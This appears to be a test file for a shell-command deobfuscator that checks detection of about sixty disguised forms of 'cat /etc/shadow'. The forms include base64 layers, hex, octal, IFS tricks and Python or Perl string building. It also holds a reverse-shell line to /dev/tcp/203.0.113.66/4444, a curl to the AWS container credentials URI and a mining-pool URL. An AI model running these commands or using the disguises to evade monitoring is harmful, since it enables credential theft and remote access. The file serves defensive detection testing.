import { deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandOf, describeCommand } from '../../shared/model/command.ts';
import { fromFolders } from '../../shared/model/shell-folder.ts';
import { normalisePath, undisguise } from '../../shared/model/shell-text.ts';
import { cpuTime } from '../support/cpu.ts';

const plain = 'cat /etc/shadow';
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const octal = (text: string): string => Array.from(text, (letter) => `\\${letter.charCodeAt(0).toString(8)}`).join('');
const codes = (text: string): number[] => Array.from(text, (letter) => letter.charCodeAt(0));
const backwards = (text: string): string => Array.from(text).reverse().join('');
const [firstHalf, secondHalf] = [base64(plain).slice(0, 8), base64(plain).slice(8)];

const disguises: readonly (readonly [string, readonly string[]])[] = [
  ['as sent', ['cat', '/etc/shadow']],
  ['a shell in a shell', ['sh', '-c', `bash -c "${plain}"`]],
  ['empty quotes', ['sh', '-c', `c''a""t /e'tc'/shadow`]],
  ['backslashes', ['sh', '-c', 'c\\a\\t /etc/sh\\adow']],
  ['a folded line', ['sh', '-c', 'ca\\\nt /etc/sha\\\ndow']],
  ['IFS for spaces', ['sh', '-c', 'cat${IFS}/etc/shadow']],
  ['IFS with a positional parameter', ['sh', '-c', 'cat$IFS$9/etc/shadow']],
  ['a slice of IFS', ['sh', '-c', 'cat${IFS:0:1}/etc/shadow']],
  ['empty expansions', ['sh', '-c', 'c$@at /etc/sha$()dow']],
  ['braces', ['sh', '-c', '{cat,/etc/shadow}']],
  ['a slash out of HOME', ['sh', '-c', 'cat ${HOME:0:1}etc${HOME:0:1}shadow']],
  ['variables', ['sh', '-c', 'a=/etc/sha;b=dow;cat ${a}$b']],
  ['hexadecimal escapes', ['sh', '-c', "$'\\x63at' /etc\\x2fshadow"]],
  ['octal escapes', ['sh', '-c', "printf '\\143\\141\\164 /etc/shadow'|sh"]],
  ['a roundabout path', ['cat', '/etc//./ssl/../shadow']],
  ['a folder entered first', ['sh', '-c', 'cd /etc && cat shadow']],
  ['folders entered one after the other', ['sh', '-c', 'true; (cd -P / ; cd ./x/../etc\ncat ./shadow)']],
  ['base64', ['sh', '-c', `echo ${base64(plain)}|base64 -d|sh`]],
  ['base64 in base64', ['sh', '-c', `echo ${base64(`echo ${base64(plain)} | base64 -d | sh`)} | base64 -d | sh`]],
  ['base64 with a stray byte', ['sh', '-c', `echo ${base64(`${plain} #\u0001`)}|base64 -d|sh`]],
  ['base64 of disguises', ['sh', '-c', `echo ${base64("c''at${IFS}/etc/sha''dow")}|base64 -d|sh`]],
  ['base64 behind decoys', ['sh', '-c', `: ${'QUFBQUFBQUFBQUFBQUFB '.repeat(200)}; echo ${base64(plain)}|base64 -d|sh`]],
  ['hexadecimal', ['sh', '-c', `echo ${hex(plain)}|xxd -r -p|sh`]],
  ['hexadecimal byte by byte', ['sh', '-c', `echo ${hex(plain).replace(/../g, '$& ')}|xxd -r -p|sh`]],
  ['backwards', ['sh', '-c', `echo '${backwards(plain)}'|rev|sh`]],
  ['positional parameters', ['sh', '-c', 'cat /etc/"$0"', 'shadow']],
  ['empty parameters', ['sh', '-c', 'c${1}at /etc/sh$!adow']],
  ['variables nobody set', ['sh', '-c', 'c${u}at /etc/sh${zz}adow']],
  ['variables in variables', ['sh', '-c', 'a=sha;b=${a}dow;cat /etc/$b']],
  ['variables with spaces', ['sh', '-c', `a="cat ";b='/etc/shadow';eval $a$b`]],
  ['parts of variables', ['bash', '-c', 'a=xcat;b=/etZc/shaZdow;${a:1} ${b//Z/}']],
  ['defaults', ['sh', '-c', '${x:-cat} /etc/${y-sha}dow']],
  ['braces in a word', ['bash', '-c', '{cat,/e{t,}c/sha{d,}ow}']],
  ['output of echo', ['sh', '-c', '$(echo ca)t /etc/`echo sha`dow']],
  ['output of printf', ['sh', '-c', "$(printf '%s%s' ca t) /etc/$(printf sha)dow"]],
  [
    'output behind openings that nothing closes',
    ['sh', '-c', `: '${'$('.repeat(40)}${'('.repeat(40)}'; $(echo ca 2>/dev/null)t /etc/$(printf sha)dow`],
  ],
  ['output of nothing', ['sh', '-c', 'ca$(: no)t /etc/sh`true`adow']],
  ['short octal escapes', ['sh', '-c', `$(printf '${octal(plain)}')`]],
  ['octal escapes with a zero', ['sh', '-c', `printf '%b' '${octal(plain).replaceAll('\\', '\\0')}'|sh`]],
  ['escapes of Unicode', ['bash', '-c', "$'\\u0063\\U00000061t' /etc/shadow"]],
  ['escaped tabs', ['bash', '-c', "printf 'cat\\t/etc/shadow'|sh"]],
  ['a here-string', ['bash', '-c', `base64 -d <<< ${base64(plain)} | sh`]],
  ['short pieces of base64', ['sh', '-c', `$(echo ${base64('cat')}|base64 -d) /etc/$(echo ${base64('shadow')}|base64 -d)`]],
  ['base64 with blanks', ['sh', '-c', `echo '${base64(plain).replace(/..../g, '$& ')}'|tr -d ' '|base64 -d|sh`]],
  ['base64 in pieces', ['sh', '-c', `a=${firstHalf};b=${secondHalf};echo $a$b|base64 -d|sh`]],
  ['base64 four times', ['sh', '-c', `echo ${[1, 2, 3, 4].reduce(base64, plain)}|base64 -d|base64 -d|base64 -d|base64 -d|sh`]],
  ['base64 of UTF-16', ['pwsh', '-enc', Buffer.from(plain, 'utf16le').toString('base64')]],
  ['base32', ['sh', '-c', 'echo MNQXIIBPMV2GGL3TNBQWI33X|base32 -d|sh']],
  ['a shifted alphabet', ['sh', '-c', "echo 'png /rgp/funqbj'|tr 'A-Za-z' 'N-ZA-Mn-za-m'|sh"]],
  ['a hexadecimal dump', ['sh', '-c', `echo '00000000: ${hex(plain).replace(/..../g, '$& ')} cat'|xxd -r|sh`]],
  ['joined strings', ['python3', '-c', `import os;os.system('ca' + "t /etc/sha"+'dow')`]],
  ['strings joined by Perl', ['perl', '-e', 'system("ca"."t /etc/sha"."dow")']],
  ['a string backwards', ['python3', '-c', `import os;os.system('${backwards(plain)}'[::-1])`]],
  ['characters by number', ['python3', '-c', `import os;os.system(''.join(map(chr,[${codes(plain).join(', ')}])))`]],
  [
    'characters one by one',
    [
      'python3',
      '-c',
      `exec(${codes(plain)
        .map((code) => `chr(${String(code)})`)
        .join('+')})`,
    ],
  ],
  ['bytes of Perl', ['perl', '-e', `system(pack("H*","${hex(plain)}"))`]],
  ['base64 of zlib', ['python3', '-c', `exec(zlib.decompress(base64.b64decode('${deflateSync(plain).toString('base64')}')))`]],
  ['base64 of gzip', ['sh', '-c', `echo ${gzipSync(plain).toString('base64')}|base64 -d|gunzip|sh`]],
];

describe('readings of a command', () => {
  it.each(disguises)('sees through %s', (_, argv) => {
    expect(describeCommand(argv).readings.some((reading) => reading.includes(plain))).toBe(true);
  });

  it('reads the command from the URI, in either encoding of a space', () => {
    const command = commandOf(
      '/api/v1/namespaces/shop/pods/api/exec?command=sh&command=-c&command=cat+%2Fetc%2Fshadow&container=api&stdin=true&tty=1',
    );
    expect(command).toMatchObject({ argv: ['sh', '-c', plain], container: 'api', interactive: true, overlong: false });
    expect(commandOf('/api/v1/namespaces/shop/pods/api/attach').argv).toEqual([]);
  });

  it('says where a command is longer than what is searched', () => {
    expect(describeCommand(['sh', '-c', `${'#'.repeat(40_000)}\n${plain}`]).overlong).toBe(true);
  });

  it('always keeps the command as sent and stays small and quick', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 500 }), (text) => {
        const { readings } = describeCommand([text]);
        if (text !== '') expect(readings).toContain(text.toLowerCase());
        expect(readings.length).toBeLessThan(64);
      }),
    );
  });

  it('does not take what a script names for a disguise', () => {
    const { readings } = describeCommand(['sh', '-c', 'curl $AWS_CONTAINER_CREDENTIALS_FULL_URI -H "$(cat /etc/hosts)"']);
    expect(readings).toContain('sh -c curl $aws_container_credentials_full_uri -h $(cat /etc/hosts)');
  });

  it('keeps signs that escapes write, for a shell that reads them once more', () => {
    const { readings } = describeCommand([
      'bash',
      '-c',
      String.raw`eval "$(printf 'sh -i \x3e\x26 /dev/tcp/203.0.113.66/4444 0\x3e\x261')"`,
    ]);
    expect(readings.some((reading) => reading.includes('sh -i >& /dev/tcp/203.0.113.66/4444 0>&1'))).toBe(true);
  });

  it('puts a folder before names and not before programs, options, settings and addresses', () => {
    expect(fromFolders('cd /srv && LANG=C tar -c data > out; curl http://api/x /etc/hosts')).toBe(
      'cd /srv && LANG=C /srv/tar -c /srv/data > /srv/out; curl http://api/x /etc/hosts',
    );
    expect(fromFolders('cd "$DIR"; cat shadow')).toBe('cd "$DIR"; cat shadow');
  });

  const hostile = [
    ...['{', '{a,', '{a{,}', 'a=b;', '${', '${a:-', '$IFS', '/../', "'", '"a"+', '\\', '\\x41', '/a', '[', 'x=$x$x;', 'a=b;$a'],
    ...[
      '00 ',
      '99,',
      'chr(9',
      '%41',
      'Zm9v',
      'rev ',
      '$(',
      '$(echo a)',
      '`',
      '(',
      'echo ',
      'echo a|rev|',
      '<<<a ',
      'a<<<',
      "tr a 'b|",
      'cd ',
      'cd a;',
      'cd /a;b ',
    ],
  ];
  it.each(hostile)('takes linear time over repetitions of %j', (part) => {
    const time = cpuTime(() => describeCommand([`rev printf a=${'x'.repeat(500)};${part.repeat(40_000 / part.length)}`]));
    expect(time).toBeLessThan(2_000);
  });
});

describe('paths', () => {
  it('are plain and stay so', () => {
    const component = fc.constantFrom('a', 'b', '.', '..', '', 'etc');
    fc.assert(
      fc.property(fc.array(component), (components) => {
        const path = normalisePath(`/${components.join('/')}`);
        expect(path).toMatch(/^\/$|^(?:\/[^/]+)+$/);
        expect(path.split('/')).not.toContain('..');
        expect(normalisePath(path)).toBe(path);
        expect(normalisePath(`${path}//./x/..`)).toBe(path);
      }),
    );
  });

  it('of URLs keep their slashes', () => {
    expect(undisguise('curl http://10.0.0.1//x stratum+tcp://pool:3333')).toBe('curl http://10.0.0.1//x stratum+tcp://pool:3333');
  });
});
